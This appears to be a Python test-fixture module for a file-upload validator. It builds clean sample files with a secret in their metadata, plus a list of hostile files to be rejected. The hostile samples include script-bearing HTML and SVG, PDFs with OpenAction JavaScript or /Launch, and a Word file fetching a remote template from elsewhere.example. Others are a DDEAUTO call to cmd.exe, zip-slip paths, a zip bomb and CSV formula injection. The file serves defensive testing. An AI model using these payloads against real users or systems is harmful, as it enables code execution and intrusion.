"""Files with real bytes: good ones that carry a secret in their properties, and bad ones that must not come in."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from docx import Document
from openpyxl import Workbook
from PIL import Image, PngImagePlugin
from pptx import Presentation
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

SECRET = "Jo Secret of Nowhere"
LINES = "what,how many\nmeetings,12\nchange,-3\n"


def picture(form: str, **more: object) -> bytes:
    """A picture of four pixels, the first of them red, that tells who took it and where."""
    its = Image.new("RGB", (16, 8), "white")
    its.paste("red", (0, 0, 8, 8))
    exif = Image.Exif()
    exif[0x013B] = SECRET  # the artist
    exif.get_ifd(0x8825)[1] = "N"  # the place
    out = io.BytesIO()
    if form == "PNG":
        notes = PngImagePlugin.PngInfo()
        notes.add_text("Author", SECRET)
        notes.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET}</x>")
        its.save(out, "PNG", pnginfo=notes, exif=exif, icc_profile=SECRET.encode(), **more)
    else:
        its.save(out, "JPEG", exif=exif, comment=SECRET.encode(), xmp=SECRET.encode(), icc_profile=SECRET.encode())
    return out.getvalue()


def turned() -> bytes:
    """A JPEG that lies on its side and says so."""
    its = Image.new("RGB", (16, 8), "white")
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    its.save(out, "JPEG", exif=exif)
    return out.getvalue()


def pdf(action: str = "", lock: str = "") -> bytes:
    """A PDF of one page that tells its author; with `action` it does something when it is opened."""
    its = PdfWriter()
    its.add_blank_page(100, 100)
    its.add_metadata({"/Author": SECRET})
    about = DecodedStreamObject()
    about.set_data(f"<x>{SECRET}</x>".encode())
    its.root_object[NameObject("/Metadata")] = its._add_object(about)
    if action:
        does = {NameObject("/S"): NameObject(action), NameObject("/JS"): TextStringObject("app.alert(1)")}
        its.root_object[NameObject("/OpenAction")] = DictionaryObject(does)
    if lock:
        its.encrypt(lock)
    out = io.BytesIO()
    its.write(out)
    return out.getvalue()


def office(kind: str) -> bytes:
    """A document of Word, Excel or PowerPoint as a program writes it."""
    out = io.BytesIO()
    if kind == "xlsx":
        book = Workbook()
        book.active["A1"] = "Kept words"
        book.properties.creator = SECRET
        book.save(out)
        return out.getvalue()
    its = Document() if kind == "docx" else Presentation()
    if kind == "docx":
        its.add_paragraph("Kept words")
    its.core_properties.author = its.core_properties.comments = SECRET
    its.save(out)
    return out.getvalue()


def open_document(kind: str) -> bytes:
    """An OpenDocument file of the fewest parts."""
    named = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[kind]
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{named}",
            "content.xml": "<office:document-content><office:scripts/>Kept words</office:document-content>",
            "meta.xml": f"<meta:initial-creator>{SECRET}</meta:initial-creator>",
            "Configurations2/accelerator/current.xml": "",
            "META-INF/manifest.xml": "<manifest:manifest/>",
        }
    )


def zipped(parts: Mapping[str, str | bytes], comment: bytes = b"") -> bytes:
    """A zip of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part)
        made.comment = comment
    return out.getvalue()


def with_parts(content: bytes, parts: Mapping[str, str | bytes], comment: bytes = b"") -> bytes:
    """The same zip with these parts added, or in place of its own."""
    with zipfile.ZipFile(io.BytesIO(content)) as its:
        return zipped({name: its.read(name) for name in its.namelist()} | dict(parts), comment)


def vast_png() -> bytes:
    """A PNG of a few hundred bytes that says it is 20,000 pixels wide and high."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 20_000, 20_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


DOCX = office("docx")
RELATION = (
    '<Relationships><Relationship Id="r1" Target="https://elsewhere.example/t.dotm" TargetMode="External"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)

GOOD: dict[str, Callable[[], bytes]] = {
    "minutes.pdf": pdf,
    "Forum.PNG": lambda: picture("PNG"),
    "forum.jpeg": lambda: picture("JPEG"),
    "plan.docx": lambda: office("docx"),
    "counts.xlsx": lambda: office("xlsx"),
    "talk.pptx": lambda: office("pptx"),
    "plan.odt": lambda: open_document("odt"),
    "counts.ods": lambda: open_document("ods"),
    "talk.odp": lambda: open_document("odp"),
    "counts.csv": LINES.encode,
    "notes.txt": lambda: "Càirdeil, “friendly”".encode("cp1252"),
}

# What must not come in, under which name, and what is said of it.
BAD: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("a page", "page.html", lambda: b"<script>alert(1)</script>", "not taken"),
    ("a drawing that runs", "drawing.svg", lambda: b"<svg onload='alert(1)'/>", "not taken"),
    ("a program", "run.exe", lambda: b"MZ", "not taken"),
    ("a program behind a name", "minutes.pdf.exe", pdf, "not taken"),
    ("a macro file by its name", "plan.docm", lambda: DOCX, "not taken"),
    ("no name but an ending", ".htaccess", lambda: b"x", "not taken"),
    ("nothing", "minutes.pdf", lambda: b"", "empty"),
    ("too much", "notes.txt", lambda: b"x" * 4_000_001, "over 4 MB"),
    ("a page called a picture", "forum.png", lambda: b"<script>alert(1)</script>", "no PNG picture"),
    ("a JPEG called a PNG", "forum.png", lambda: picture("JPEG"), "no PNG picture"),
    ("half a picture", "forum.jpg", lambda: picture("JPEG")[:300], "no JPEG picture"),
    ("a vast picture", "forum.png", vast_png, "PNG"),
    ("a page called a PDF", "minutes.pdf", lambda: b"<html>%PDF-1.4", "no PDF"),
    ("a picture before a PDF", "minutes.pdf", lambda: picture("JPEG") + pdf(), "no PDF"),
    ("half a PDF", "minutes.pdf", lambda: pdf()[:200], "cannot be read"),
    ("a PDF that runs", "minutes.pdf", lambda: pdf("/JavaScript"), "holds a program"),
    ("a PDF that runs, in other words", "m.pdf", lambda: pdf("/JavaScript").replace(b"aScript", b"a#53cript"), "holds"),
    ("a PDF that starts a program", "minutes.pdf", lambda: pdf("/Launch"), "holds a program"),
    ("a locked PDF", "minutes.pdf", lambda: pdf(lock="x"), "locked with a password"),
    ("a zip called Word", "plan.docx", lambda: zipped({"a.txt": "x"}), "not what its name says"),
    ("Excel called Word", "plan.docx", lambda: office("xlsx"), "not what its name says"),
    ("text called Word", "plan.docx", lambda: b"Words", "not what its name says"),
    ("half a Word file", "plan.docx", lambda: DOCX[:-900], "not what its name says"),
    ("a picture before a Word file", "plan.docx", lambda: b"GIF89a" + DOCX, "not what its name says"),
    ("an old or locked Word file", "plan.docx", lambda: b"\xd0\xcf\x11\xe0" + b"x" * 99, "locked"),
    ("Word with macros", "plan.docx", lambda: with_parts(DOCX, {"word/vbaProject.bin": b"x"}), "holds macros"),
    (
        "Word that says it has macros",
        "plan.docx",
        lambda: with_parts(DOCX, {"[Content_Types].xml": '<Types ContentType="x.macroEnabled.main+xml"/>'}),
        "holds macros",
    ),
    (
        "Word that says so in other words",
        "plan.docx",
        lambda: with_parts(DOCX, {"[Content_Types].xml": "<Types ContentType='macroEnabled'/>".encode("utf-16")}),
        "holds macros",
    ),
    ("Word with a program", "plan.docx", lambda: with_parts(DOCX, {"word/embeddings/ole1.bin": b"x"}), "holds macros"),
    (
        "Word that fetches a template",
        "plan.docx",
        lambda: with_parts(DOCX, {"word/_rels/settings.xml.rels": RELATION}),
        "holds macros",
    ),
    (
        "Word that calls a program",
        "plan.docx",
        lambda: with_parts(DOCX, {"word/footer9.xml": "<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
        "holds macros",
    ),
    (
        "OpenDocument with a script",
        "plan.odt",
        lambda: with_parts(open_document("odt"), {"Basic/Standard/Module1.xml": "x"}),
        "holds macros",
    ),
    (
        "OpenDocument that calls a script",
        "plan.odt",
        lambda: with_parts(open_document("odt"), {"content.xml": '<a href="vnd.sun.star.script:x"/>'}),
        "holds macros",
    ),
    (
        "a locked OpenDocument",
        "plan.odt",
        lambda: with_parts(open_document("odt"), {"META-INF/manifest.xml": "<manifest:encryption-data>"}),
        "locked",
    ),
    ("a part that climbs", "plan.docx", lambda: with_parts(DOCX, {"../../evil.xml": "x"}), "not what its name says"),
    ("a part at the root", "plan.docx", lambda: with_parts(DOCX, {"/etc/x.xml": "x"}), "not what its name says"),
    ("a part on a drive", "plan.docx", lambda: with_parts(DOCX, {"C:\\x.xml": "x"}), "not what its name says"),
    ("a part twice", "plan.docx", lambda: with_parts(DOCX, {"WORD/DOCUMENT.XML": "x"}), "not what its name says"),
    ("a zip bomb", "plan.docx", lambda: with_parts(DOCX, {"word/a.xml": b"\0" * 41_000_000}), "too large once"),
    ("very many parts", "plan.docx", lambda: with_parts(DOCX, {f"a/{n}": "" for n in range(2_001)}), "too large once"),
    ("bytes called text", "notes.txt", lambda: b"\x7fELF\x00\x01", "no plain text"),
    ("a formula", "counts.csv", lambda: b"a,b\n1,=HYPERLINK(1)\n", "Line 2 holds a formula"),
    ("a formula behind a sign", "counts.csv", lambda: b"a;b\n1;+cmd|' /C calc'!A0\n", "Line 2 holds a formula"),
]
